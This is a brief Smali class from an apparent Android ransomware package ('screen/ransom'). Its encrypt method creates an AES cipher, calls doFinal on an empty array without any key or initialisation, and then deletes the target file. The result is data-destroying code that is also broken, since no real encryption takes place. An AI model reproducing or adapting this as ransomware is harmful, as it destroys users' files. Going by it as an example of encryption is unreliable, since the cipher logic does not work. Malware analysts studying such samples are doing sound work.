.class public Lcom/appwarden/screen/ransom/Crypto;
.super Ljava/lang/Object;

.method public static encrypt(Ljava/io/File;)V
    .registers 4
    const-string v0, "AES"
    invoke-static {v0}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v0
    const/4 v1, 0x0
    new-array v1, v1, [B
    invoke-virtual {v0, v1}, Ljavax/crypto/Cipher;->doFinal([B)[B
    invoke-virtual {p0}, Ljava/io/File;->delete()Z
    return-void
.end method
